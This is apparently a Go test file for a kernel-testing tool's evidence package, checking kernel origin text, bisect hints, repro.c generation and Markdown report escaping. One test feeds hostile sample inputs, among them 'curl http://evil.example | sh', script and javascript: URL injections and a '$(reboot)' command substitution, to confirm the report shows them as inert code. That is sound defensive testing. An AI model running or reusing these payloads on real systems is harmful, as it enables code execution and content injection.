package evidence

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	gmtext "github.com/yuin/goldmark/text"

	"github.com/runmatrix/runmatrix/internal/host/kernels"
	"github.com/runmatrix/runmatrix/internal/host/matrix/results"
	"github.com/runmatrix/runmatrix/testcases"
	"github.com/runmatrix/runmatrix/testcases/outcome"
)

// TestOriginNamesItsDistribution says where a kernel came from in the
// distribution's own words.
func TestOriginNamesItsDistribution(t *testing.T) {
	for _, tc := range []struct {
		o    kernels.Origin
		want string
	}{
		{kernels.Origin{Package: "linux-image-6.1.0-57-amd64-unsigned", PackageVersion: "6.1.192-3", DebSHA256: "ab", Suite: "bookworm-security", SHA256: "cd"},
			"Debian package `linux-image-6.1.0-57-amd64-unsigned` version `6.1.192-3` (deb sha256 `ab`), image sha256 `cd`"},
		{kernels.Origin{Package: "linux-image-6.8.0-151-generic", PackageVersion: "6.8.0-151.151", DebSHA256: "ab", Suite: "Ubuntu 24.04 noble-security", SHA256: "cd"},
			"Ubuntu package (Ubuntu 24.04 noble-security) `linux-image-6.8.0-151-generic`"},
		{kernels.Origin{Package: "kernel", PackageVersion: "2.6.32-504.el6", PackageSHA256: "ef", Suite: "CentOS 6.6", SHA256: "cd", URL: "https://vault.centos.org/6.6/os/x86_64/Packages/kernel-2.6.32-504.el6.x86_64.rpm"},
			"CentOS 6.6 package `kernel` version `2.6.32-504.el6` (package sha256 `ef`), image sha256 `cd`, from <https://vault.centos.org/"},
	} {
		require.Contains(t, origin(results.Kernel{Origin: tc.o}), tc.want)
	}
}

// TestReportKeepsCellTextInert writes REPORT.md from cells whose text (the
// console, the summary, the origin, uname -v) is Markdown that would end a
// code block or span and add a link, an image or HTML: parsed, the report
// has none of those but the autolinks it makes itself, and each hostile
// text is still shown, inside code.
func TestReportKeepsCellTextInert(t *testing.T) {
	evil := "``` ![img](http://evil.example/x.png) [click](http://evil.example/) <script>alert(1)</script>\n```\n# Run: curl http://evil.example | sh"
	cell := func(kernel, summary string) results.Result {
		return results.Result{
			Key: results.Key{Case: "epipe.write-after-close", Profile: "default", Kernel: kernel},
			KernelInfo: results.Kernel{Ref: kernel, Release: "6.1.0", Arch: "x86_64", UnameVersion: "#1 `x` ![i](http://evil.example/)",
				Origin: kernels.Origin{Package: "p`kg", PackageVersion: "1]", PackageSHA256: "ab", Suite: "[Suite](http://evil.example/)", URL: "javascript:alert(1)"}},
			Outcome: outcome.Outcome{Status: outcome.OK, Summary: summary, Steps: []outcome.Step{{Label: "write", Call: "write", Fd: "c", Key: true,
				Args: []outcome.Arg{{Name: "buf", Value: `"x"`}, {Name: "len", Value: "1"}}}}},
			Console: strings.Split(evil, "\n"),
			Reps:    1, Agree: 1,
		}
	}
	res := &results.Results{Format: results.Format, Cells: []results.Result{
		cell("debian:6.1", "write=1 "+evil), cell("debian:6.12", "write=-1 EPIPE | ![x](http://evil.example/)"),
	}}
	dir := t.TempDir()
	_, err := Write(dir, res, Options{Cases: []string{"epipe.write-after-close"}, Rerun: []string{"runmatrix", "evidence", "--from", "$(reboot)`x`"}})
	require.NoError(t, err)
	md, err := os.ReadFile(filepath.Join(dir, "REPORT.md"))
	require.NoError(t, err)
	doc := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(gmtext.NewReader(md))
	var code strings.Builder
	require.NoError(t, ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Image, *ast.Link, *ast.RawHTML, *ast.HTMLBlock:
			return ast.WalkStop, fmt.Errorf("REPORT.md has a %s: %q", n.Kind(), n.Text(md))
		case *ast.AutoLink:
			return ast.WalkStop, fmt.Errorf("REPORT.md links %q", n.URL(md))
		case *ast.Heading:
			require.NotContains(t, string(n.Text(md)), "curl", "a console line became a heading")
		case *ast.CodeSpan:
			code.Write(n.Text(md))
		case *ast.FencedCodeBlock:
			for i := 0; i < n.Lines().Len(); i++ {
				seg := n.Lines().At(i)
				code.Write(seg.Value(md))
			}
		}
		return ast.WalkContinue, nil
	}))
	for _, s := range []string{"# Run: curl http://evil.example | sh", "![img](http://evil.example/x.png)", "javascript:alert(1)", "'$(reboot)`x`'"} {
		require.Contains(t, code.String(), s, "shown as code")
	}
}

// TestBisectHintAtTheFirstBoundary: the mainline hint brackets the first
// change in version order with upstream tags bisect accepts, not the
// oldest and newest kernels' package versions (it was
// mainline:v4.4.0.210.242..v6.12.118), and is left out, with the reason,
// when both sides build on the same upstream release.
func TestBisectHintAtTheFirstBoundary(t *testing.T) {
	cell := func(ref, release, pkgVersion, summary string) *results.Result {
		return &results.Result{Key: results.Key{Case: "x", Profile: "default", Kernel: ref},
			KernelInfo: results.Kernel{Ref: ref, Release: release, Arch: "x86_64", Origin: kernels.Origin{Package: "linux-image", PackageVersion: pkgVersion}},
			Outcome:    outcome.Outcome{Status: outcome.OK, Summary: summary}}
	}
	u1604 := cell("ubuntu:16.04", "4.4.0-210-generic", "4.4.0-210.242", "a")
	u1804 := cell("ubuntu:18.04", "4.15.0-213-generic", "4.15.0-213.224", "b")
	d612 := cell("debian:6.12", "6.12.118+deb13-amd64", "6.12.118-1", "b")
	lo, hi, why := boundary([]*results.Result{u1604, u1804, d612})
	require.Empty(t, why)
	require.Equal(t, "v4.4..v4.15", lo+".."+hi)

	c65 := cell("centos:6.5", "2.6.32-431.29.2.el6.x86_64", "2.6.32-431.29.2.el6", "a")
	c66 := cell("centos:6.6", "2.6.32-504.el6.x86_64", "2.6.32-504.el6", "b")
	_, _, why = boundary([]*results.Result{c65, c66})
	require.Contains(t, why, "two builds of upstream v2.6.32")

	d61 := cell("debian:6.1", "6.1.0-41-amd64", "6.1.158-1", "a")
	lo, hi, why = boundary([]*results.Result{d61, d612})
	require.Empty(t, why)
	require.Equal(t, "v6.1.158..v6.12.118", lo+".."+hi)
}

// TestTracedReplayIsTheOldest: a traced program's repro.c is made from the
// oldest kernel's trace, so its old outcome (exit 0) is the oldest
// kernel's, as REPORT.md says, even where a newer trace has more steps.
func TestTracedReplayIsTheOldest(t *testing.T) {
	step := func(errno string) outcome.Step {
		s := outcome.Step{Label: "socket", Call: "socket", Fd: "", Args: []outcome.Arg{{Name: "type", Value: "SOCK_STREAM"}}, Ret: 3, RetFd: true}
		if errno != "" {
			s.Ret, s.Errno, s.RetFd = -1, errno, false
		}
		return s
	}
	cell := func(ref, release, summary string, steps ...outcome.Step) results.Result {
		return results.Result{Key: results.Key{Case: "program:p", Profile: "default", Kernel: ref},
			KernelInfo: results.Kernel{Ref: ref, Release: release, Arch: "x86_64"},
			Outcome:    outcome.Outcome{Status: outcome.OK, Summary: summary, Reported: summary, Steps: steps}, Reps: 1, Agree: 1}
	}
	res := &results.Results{Format: results.Format, Cells: []results.Result{
		cell("new", "6.12.0", "exit=0", step(""), step("")),
		cell("old", "2.6.32", "exit=1", step("EAFNOSUPPORT")),
	}, Cases: []testcases.Case{{ID: "program:p", Title: "p", About: "a program", Source: "-"}}}
	dir := t.TempDir()
	_, err := Write(dir, res, Options{Cases: []string{"program:p"}, Rerun: []string{"runmatrix"}})
	require.NoError(t, err)
	src, err := os.ReadFile(filepath.Join(dir, "repro.c"))
	require.NoError(t, err)
	require.Contains(t, string(src), `generated from the trace on old (2.6.32)`)
	require.Contains(t, string(src), `#define OLD_ON "old (2.6.32)"`)
	require.Contains(t, string(src), `#define NEW_ON "new (6.12.0)"`)
}
